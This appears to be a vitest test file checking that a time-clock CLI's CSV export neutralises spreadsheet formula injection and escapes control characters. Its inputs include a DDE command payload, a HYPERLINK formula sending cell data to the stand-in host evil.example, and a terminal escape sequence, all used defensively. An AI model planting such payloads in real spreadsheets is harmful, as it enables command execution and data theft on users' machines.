import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { Journal } from '../../src/journal/index.js';
import { cliSandbox } from '../helpers/cli.js';

/**
 * `punches export` opened in a spreadsheet runs nothing: codes and HRMS messages that start like
 * a formula come out as text (a leading apostrophe), and CR, LF and quotes are quoted per RFC 4180.
 */
describe('punches export is safe to open in a spreadsheet', () => {
  let box: ReturnType<typeof cliSandbox>;
  afterEach(() => box.tmp.cleanup());

  it('neutralises formula cells and quotes line breaks, exactly', async () => {
    box = cliSandbox();
    // Codes as a terminal could send them (an import refuses formula cells: test/cli/import-spreadsheet.test.ts).
    const codes = ["=cmd|'/C_calc'!A0", '+41', '-2', '@SUM(1)', '1001'];

    // The HRMS's answers, as a hostile or broken HRMS could word them.
    const messages = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '\tindented',
      'line one\r\nline two',
      '@evil\u001b[2J',
      'plain, with "quotes"',
    ];
    const journal = Journal.open({ path: box.tmp.path('journal.db'), site: 'plant-a', mode: 'owner' });
    try {
      const added = journal.ingest(
        codes.map((c, i) => ({ terminal: 'import', device: '', biometricCode: c, logTime: `2026-11-20 08:0${i}:00` })),
      );
      expect(added.added).toBe(5);
      const claimed = journal.claim(10);
      journal.settle(claimed.map((p, i) => ({ id: p.id, kind: 'rejected', message: messages[i]! })));
    } finally {
      journal.close();
    }

    const r = await box.cli('punches', 'export');
    expect(r.status, r.stderr).toBe(0);
    const rows = parse(r.stdout, { record_delimiter: '\r\n' }) as string[][];
    const header = rows[0]!;
    expect(header).toEqual([
      'devicelogId',
      'terminal',
      'device',
      'biometricCode',
      'logTime',
      'verifyType',
      'punchState',
      'state',
      'attempts',
      'lastMessage',
      'stateName',
      'direction',
    ]);
    expect(rows.slice(1).map((row) => [row[3], row[9], row[8]])).toEqual([
      ["'=cmd|'/C_calc'!A0", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, '1'],
      ["'+41", "'\tindented", '1'],
      ["'-2", 'line one\r\nline two', '1'],
      ["'@SUM(1)", "'@evil\u001b[2J", '1'],
      ['1001', 'plain, with "quotes"', '1'],
    ]);
    // On the wire: the line break and the quotes are inside a quoted cell; every record ends in CRLF
    // (after the state and direction columns, empty: an import records no state).
    expect(r.stdout).toContain(`,"line one\r\nline two",,\r\n`);
    expect(r.stdout).toContain(`,"plain, with ""quotes""",,\r\n`);
    expect(r.stdout).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",,\r\n`);

    // The list for a person at a terminal shows the same text with control characters escaped.
    const list = await box.cli('punches', '--state', 'rejected');
    expect(list.stdout).toContain('@evil\\x1b[2J');
    expect(list.stdout).toContain('line one\\x0d\\x0aline two');
    // eslint-disable-next-line no-control-regex -- looking for control characters is the point
    expect(list.stdout).not.toMatch(/[\u001b\r\t]/);
  });
});
